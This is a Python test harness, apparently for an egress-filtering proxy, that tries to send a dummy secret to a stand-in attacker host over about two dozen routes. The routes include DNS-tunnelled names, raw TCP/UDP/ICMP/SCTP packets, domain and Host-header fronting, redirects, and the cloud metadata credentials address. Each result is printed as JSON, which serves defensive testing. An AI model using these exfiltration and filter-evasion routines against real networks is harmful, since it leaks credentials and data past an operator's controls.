# Copyright The Bawn Authors.
# SPDX-License-Identifier: Apache-2.0
"""Ways to carry a secret out, one for each name given on the command line.

Each prints one JSON line: what happened, and the code that Bawn gave, if any.
That something is refused here proves nothing; the attacker's own count does.
"""
import base64
import json
import os
import socket
import ssl
import struct
import sys
import urllib.parse

EVIL, EVIL_ADDR, EVIL_ADDR6, OK, META_NAME, META_ADDR, LAN_ADDR = sys.argv[1].split(",")
SECRET = b"the-secret-of-the-operator"
TIMEOUT = float(os.environ.get("ATTEMPT_SECONDS", "3"))  # without an answer


def proxy_address():
    url = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "")
    return (url.hostname, url.port) if url.hostname else None


def read_head(s):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536:
        more = s.recv(4096)
        if not more:
            break
        data += more
    return data


def answer(data):
    """Says what a response head says."""
    lines = data.split(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")
    code = ""
    for line in lines[1:]:
        name, _, value = line.partition(":")
        if name.lower() == "bawn-code":
            code = value.strip()
    if not lines[0]:
        return "closed without an answer", code
    return "answered " + " ".join(lines[0].split(" ")[1:]), code


def tunnel(authority):
    """Asks the proxy for a tunnel; returns the socket, or says what came back."""
    at = proxy_address()
    if at is None:
        return None, ("no proxy is set", "")
    s = socket.create_connection(at, TIMEOUT)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
    data = read_head(s)
    if data[9:12] != b"200":
        return None, answer(data)
    return s, None


def https(authority, sni, host, path="/"):
    s, refused = tunnel(authority)
    if s is None:
        return refused
    try:
        t = ssl.create_default_context().wrap_socket(s, server_hostname=sni)
    except ssl.SSLCertVerificationError as e:
        return "certificate refused: " + str(e.verify_message), ""
    t.sendall(("GET %s?secret=%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, SECRET.decode(), host)).encode())
    return answer(read_head(t))


def query(name, kind, to, tcp=False):
    """Sends one DNS question and says what came back (RFC 1035, RFC 8914)."""
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    msg = struct.pack(">HHHHHH", 4711, 0x100, 1, 0, 0, 1) + labels + b"\0" + struct.pack(">HH", kind, 1)
    msg += b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    if tcp:
        s = socket.create_connection((to, 53), TIMEOUT)
        s.sendall(struct.pack(">H", len(msg)) + msg)
        data = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(TIMEOUT)
        s.connect((to, 53))
        s.send(msg)
        data = s.recv(4096)
    rcode = {0: "NOERROR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}.get(data[3] & 15, str(data[3] & 15))
    text = data.decode("latin-1")
    code = next((w for w in ("dns_name_not_allowed", "dns_type_denied", "dns_label_budget", "dns_malformed") if w in text), "")
    return "answered " + rcode, code


def nameserver():
    with open("/etc/resolv.conf") as f:
        for line in f:
            if line.startswith("nameserver"):
                return line.split()[1]
    return "127.0.0.53"


def encoded():
    return base64.b32encode(SECRET).decode().rstrip("=").lower()


def dns_tunnel():
    """the secret in a name that the attacker's resolver is asked for"""
    return query(encoded() + "." + EVIL, 16, nameserver())


def dns_libc():
    """the same by way of the C library"""
    try:
        got = socket.getaddrinfo(encoded() + "." + EVIL, 443)
    except socket.gaierror as e:
        return "no address: " + e.strerror, ""
    return "resolved to " + got[0][4][0], ""


def dns_direct():
    """a question straight to the attacker's resolver, UDP and TCP"""
    try:
        return query(encoded() + "." + EVIL, 1, EVIL_ADDR)
    except OSError:
        return query(encoded() + "." + EVIL, 1, EVIL_ADDR, tcp=True)


def tcp():
    """a plain TCP connection to the attacker's address, past the proxy"""
    with socket.create_connection((EVIL_ADDR, 4444), TIMEOUT) as s:
        s.sendall(b"GET /?" + SECRET + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        return answer(read_head(s))


def tcp_tls():
    """TLS to the attacker's address, past the proxy"""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((EVIL_ADDR, 443), TIMEOUT) as s:
        t = context.wrap_socket(s, server_hostname=EVIL)
        t.sendall(b"GET /?" + SECRET + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        return answer(read_head(t))


def udp():
    """a datagram to the attacker's port 443, as QUIC would send"""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(TIMEOUT)
    s.connect((EVIL_ADDR, 443))
    s.send(SECRET)
    return "answered " + repr(s.recv(100)), ""


def icmp():
    """the secret as the payload of a ping"""
    packet = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + SECRET
    total = sum(struct.unpack(">%dH" % (len(packet) // 2), packet[: len(packet) // 2 * 2]))
    total = (total >> 16) + (total & 0xFFFF)
    packet = packet[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + packet[4:]
    errors = []
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
            s.settimeout(TIMEOUT)
            s.sendto(packet, (EVIL_ADDR, 0))
            s.recv(100)
            return "answered", ""
        except OSError as e:
            errors.append(e)
    raise errors[0]


def ipv6():
    """TCP over IPv6 to the attacker"""
    with socket.create_connection((EVIL_ADDR6, 443), TIMEOUT) as s:
        s.sendall(SECRET)
        return "connected", ""


def udp6():
    """a datagram over IPv6"""
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.settimeout(TIMEOUT)
    s.sendto(SECRET, (EVIL_ADDR6, 443))
    return "answered " + repr(s.recv(100)), ""


def name():
    """a request by way of the proxy to a name that no rule allows"""
    return https(EVIL + ":443", EVIL, EVIL)


def ip_literal():
    """a tunnel by way of the proxy to the attacker's address"""
    return https(EVIL_ADDR + ":443", EVIL, EVIL)


def other_port():
    """an allowed host on a port that no rule allows"""
    return https(OK + ":8443", OK, OK)


def sni_front():
    """a tunnel to an allowed host, with the attacker's name inside TLS"""
    try:
        return https(OK + ":443", EVIL, EVIL)
    except ssl.SSLError as e:
        return "TLS refused: " + str(e.reason), ""


def host_front():
    """an allowed host, with the attacker's name in the Host header"""
    return https(OK + ":443", OK, EVIL)


def plain():
    """plain HTTP by way of the proxy to the attacker's name"""
    at = proxy_address()
    if at is None:
        return "no proxy is set", ""
    with socket.create_connection(at, TIMEOUT) as s:
        s.sendall(("GET http://%s/?%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (EVIL, SECRET.decode(), EVIL)).encode())
        return answer(read_head(s))


def metadata():
    """the cloud's metadata address, where credentials are"""
    with socket.create_connection((META_ADDR, 80), TIMEOUT) as s:
        s.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
        return answer(read_head(s))


def metadata_proxy():
    """the metadata address by way of the proxy"""
    at = proxy_address()
    if at is None:
        return "no proxy is set", ""
    with socket.create_connection(at, TIMEOUT) as s:
        s.sendall(b"GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
        return answer(read_head(s))


def metadata_name():
    """an allowed name that leads to the metadata address"""
    return https(META_NAME + ":443", META_NAME, META_NAME)


def redirect():
    """an allowed host that redirects to the attacker; the client follows"""
    s, refused = tunnel(OK + ":443")
    if s is None:
        return refused
    t = ssl.create_default_context().wrap_socket(s, server_hostname=OK)
    t.sendall(("GET /redirect?to=https://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (EVIL, OK)).encode())
    head = read_head(t).decode("latin-1")
    place = [x for x in head.split("\r\n") if x.lower().startswith("location:")]
    if not place:
        return answer(head.encode("latin-1"))
    host = urllib.parse.urlsplit(place[0].split(":", 1)[1].strip()).hostname
    return https(host + ":443", host, host)


def lan():
    """a service in the operator's private network"""
    with socket.create_connection((LAN_ADDR, 80), TIMEOUT) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: lan\r\n\r\n")
        return answer(read_head(s))


def raw_ip():
    """a packet written by hand, through a raw socket"""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.sendto(SECRET, (EVIL_ADDR, 0))
    return "sent", ""


def packet_socket():
    """a frame written by hand, past the IP stack"""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)
    for _, interface in socket.if_nameindex():
        s.sendto(b"\xff" * 12 + b"\x08\x00" + SECRET, (interface, 0x800))
    return "sent", ""


def sctp():
    """a protocol that nobody thinks of"""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
    s.settimeout(TIMEOUT)
    s.connect((EVIL_ADDR, 9999))
    return "connected", ""


def run(which):
    try:
        return globals()[which]()
    except (TimeoutError, socket.timeout):
        return "no answer", ""
    except OSError as e:
        return (e.strerror or str(e)).lower(), ""


for each in sys.argv[2:]:
    what, code = run(each)
    print(json.dumps({"attempt": each, "tried": globals()[each].__doc__, "what": what, "code": code}), flush=True)
